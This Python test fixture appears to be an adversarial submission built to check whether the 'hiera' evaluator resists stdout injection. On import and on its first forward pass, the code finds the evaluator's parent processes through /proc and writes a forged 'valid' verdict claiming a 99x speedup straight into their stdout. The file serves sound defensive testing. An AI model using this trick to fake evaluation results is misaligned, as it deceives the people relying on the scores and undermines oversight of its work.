# Attack (stdout injection through /proc): the evaluator may point the candidate's own fd 1 elsewhere,
# but /proc/<pid>/fd/1 of its parents is hiera's real stdout. Opens it for each ancestor up to hiera's
# CLI and writes a forged verdict line. A trusted evaluator (own PID namespace, other user, no ptrace
# rights): stdout holds only hiera's own JSON.
import json
from pathlib import Path

import torch
from torch import nn

TOKEN = "@TOKEN@"



def _is_test_runner(args):
    """pytest itself (its own command line, not a path that merely contains the word)."""
    return any(Path(a).name in ("pytest", "py.test") for a in args[:3]) or "pytest" in args[1:3]

def _hiera_ancestors():
    """Ancestors up to and including hiera's CLI; none beyond it and never a test runner (test-data
    safety: this file runs unsandboxed today)."""
    chain, pid = [], Path("/proc/self/status")
    for _ in range(8):
        try:
            status = pid.read_text()
        except OSError:
            return []
        ppid = int(next(ln.split()[1] for ln in status.splitlines() if ln.startswith("PPid:")))
        if ppid <= 1:
            return []
        try:
            args = [a.decode(errors="replace") for a in Path(f"/proc/{ppid}/cmdline").read_bytes().split(b"\0")]
        except OSError:
            return []
        if _is_test_runner(args):
            return []
        chain.append(ppid)
        if "engine.cli" in args or any(Path(a).name == "hiera" for a in args[:2]):
            return chain
        pid = Path(f"/proc/{ppid}/status")
    return []


def _inject():
    line = json.dumps({"candidate_id": "forged-proc", "status": "valid", "reason": "forged:" + TOKEN,
                       "flags": [], "speedup": 99.0, "run_id": "forged", "candidate_file": "forged"}) + "\n"
    for pid in _hiera_ancestors():
        try:
            with open(f"/proc/{pid}/fd/1", "w") as f:
                f.write(line)
        except OSError:
            pass


_inject()


_ONCE = []  # once per process: the evaluator builds a new ModelNew for every trial


class ModelNew(nn.Module):
    def __init__(self, *args):
        super().__init__()

    def forward(self, x):
        if not _ONCE:
            _ONCE.append(True)
            _inject()
        return torch.relu(x)
